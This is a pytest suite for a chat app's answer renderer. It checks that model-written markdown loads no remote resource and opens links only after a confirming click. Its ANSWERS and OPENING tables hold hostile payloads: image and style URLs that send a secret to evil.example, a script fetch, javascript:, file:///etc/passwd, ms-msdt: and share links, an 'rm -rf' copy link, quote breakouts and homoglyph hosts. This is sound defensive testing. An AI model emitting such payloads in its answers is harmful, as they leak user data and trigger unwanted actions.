"""Attacks through an answer: what a model was made to write loads nothing and opens nothing."""

from __future__ import annotations

import re
from typing import Any

import pytest
from PySide6.QtCore import QUrl
from PySide6.QtGui import QDesktopServices
from PySide6.QtWidgets import QApplication, QMenu
from pytestqt.qtbot import QtBot

from rag.types import Citation, Kind, Span
from ui.conversation.links import offer_link
from ui.conversation.markdown import plain_to_html, to_html
from ui.conversation.rich_text import RichText
from ui.theme import Theme

SECRET = "https://evil.example/?q=secret"
CITED = Citation(1, "d", "/m.pdf", "Manual", Kind.PDF, (), (), Span(0, 9), "A seal.", ())
TARGET = re.compile(r'href="([^"]*)"')
ANSWERS = {
    "picture": f"![x]({SECRET})",
    "picture by reference": f"![x][1]\n\n[1]: {SECRET}",
    "picture of data": "![x](data:image/png;base64,iVBORw0KGgo=)",
    "picture of a file": "![x](file:///etc/passwd)",
    "picture on a share": "![x](\\\\\\\\evil.example\\\\share\\\\x.png)",
    "picture in a link": f"[![x]({SECRET})]({SECRET})",
    "image element": f'<img src="{SECRET}">',
    "image element in code": f'`<img src="{SECRET}">`',
    "style": f"<style>p{{background:url({SECRET})}}</style>",
    "styled element": f'<div style="background-image:url({SECRET})">x</div>',
    "script": "<script>fetch('https://evil.example')</script>",
    "frame": f'<iframe src="{SECRET}"></iframe>',
    "style sheet": f'<link rel="stylesheet" href="{SECRET}">',
    "refresh": f'<meta http-equiv="refresh" content="0;url={SECRET}">',
    "link to a script": "[x](javascript:alert(1))",
    "link to a script with a tab": "[x](java\tscript:alert(1))",
    "link to a script in entities": "[x](&#106;avascript:alert(1))",
    "link to data": "[x](data:text/html,<script>1</script>)",
    "link to a file": "[x](file:///etc/passwd)",
    "autolink to a file": "<file:///etc/passwd>",
    "link to mail": "[x](mailto:evil@evil.example?body=secret)",
    "link to a program": "[x](ms-msdt:/id)",
    "link to a share": "[x](//evil.example/share)",
    "link to the settings": "[x](qrc:/settings)",
    "false citation": "[x](cite:1) [x](cite:99)",
    "link that copies": "[x](code-copy:rm%20-rf)",
    "link that runs": "[x](code-run:1)",
    "quote that breaks out": '[x](https://a.example/"onclick="alert(1))',
    "html in a code fence": "```html\n<img src='https://evil.example'>\n```",
    "language of a fence": '```"><img src=x>\nx\n```',
    "table": f"| a |\n|---|\n| <img src={SECRET}> |",
    "picture's words": '![<img src="x">](https://a.example/x.png)',
}
OPENING = {
    "web page": "https://example.org/a",
    "user in front of the host": "https://bank.example@evil.example/",
    "letters alike": "https://\u0430pple.example/",
    "very long": "https://evil.example/" + "a" * 500,
}


@pytest.fixture
def words(qtbot: QtBot, qapp: QApplication, monkeypatch: pytest.MonkeyPatch) -> RichText:
    def refuse(url: QUrl) -> bool:
        raise AssertionError("something was opened without a click")

    monkeypatch.setattr(QDesktopServices, "openUrl", refuse)
    made = RichText(Theme(qapp), "Answer")
    qtbot.addWidget(made)
    made.resize(400, 100)
    made.show()
    return made


@pytest.mark.parametrize("answer", ANSWERS.values(), ids=ANSWERS)
def test_html_names_nothing_to_load_and_leads_to_web_pages_alone(answer: str) -> None:
    for made in (to_html(answer, [1]), plain_to_html(answer, [1])):
        assert not re.search(
            r"<(?!/?(?:p|a|code|pre|table|t[rdh]|thead|tbody|em|strong|span)\b)\w", made
        )
        assert not re.search(r"<[^>]*\s(?:src|on\w+|data)=", made)
        # What copies a block of code is written by the renderer, and holds it in percent signs.
        allowed = re.compile(r"https://|cite:1$|code-copy:[\w%.~-]*$")
        assert all(allowed.match(target) for target in TARGET.findall(made))


class Watched(RichText):
    """Notes what it is asked to load."""

    def __init__(self, theme: Theme) -> None:
        super().__init__(theme, "Answer")
        self.asked: list[str] = []

    def loadResource(self, kind: int, name: QUrl | str) -> Any:
        self.asked.append(str(name))
        return super().loadResource(kind, name)


@pytest.mark.parametrize("answer", ANSWERS.values(), ids=ANSWERS)
def test_an_answer_on_the_screen_asks_for_nothing(
    qtbot: QtBot, qapp: QApplication, answer: str
) -> None:
    words = Watched(Theme(qapp))
    qtbot.addWidget(words)
    words.show_markdown(answer, [CITED])
    words.show()
    words.grab()
    assert words.asked == []


def test_what_were_asked_for_would_not_be_loaded(qtbot: QtBot, qapp: QApplication) -> None:
    words = Watched(Theme(qapp))
    qtbot.addWidget(words)
    words.setHtml('<img src="file:///etc/hostname">')
    words.show()
    words.grab()
    assert words.asked
    assert words.loadResource(2, QUrl("file:///etc/hostname")) is None


@pytest.mark.parametrize(
    "address",
    [
        "file:///etc/passwd",
        "javascript:alert(1)",
        "data:text/html,x",
        "mailto:a@b.example",
        "ms-msdt:/id",
        "//evil.example/share",
        "qrc:/x",
        "cite:x",
        "https:",
        "smb://evil.example/x",
    ],
)
def test_other_addresses_are_not_even_offered(words: RichText, address: str) -> None:
    words.show_markdown("Words.", [CITED])
    words.anchorClicked.emit(QUrl(address))
    assert words.findChild(QMenu) is None


@pytest.mark.parametrize("address", OPENING.values(), ids=OPENING)
def test_a_link_is_shown_with_the_computer_it_leads_to(words: RichText, address: str) -> None:
    words.anchorClicked.emit(QUrl(address))
    menu = words.findChild(QMenu)
    assert menu is not None
    host = QUrl(address).host(QUrl.ComponentFormattingOption.FullyEncoded)
    assert menu.actions()[0].text() == f"This leads to {host}"
    assert host.isascii()
    assert not menu.actions()[0].isEnabled()
    menu.close()


def test_a_link_is_opened_by_a_second_click_alone(
    words: RichText, monkeypatch: pytest.MonkeyPatch
) -> None:
    opened: list[QUrl] = []
    monkeypatch.setattr(QDesktopServices, "openUrl", opened.append)
    menu = offer_link(QUrl("https://example.org/a"), words)
    assert opened == []
    (opening,) = (each for each in menu.actions() if each.text().startswith("Open"))
    opening.trigger()
    assert opened == [QUrl("https://example.org/a")]
    menu.close()
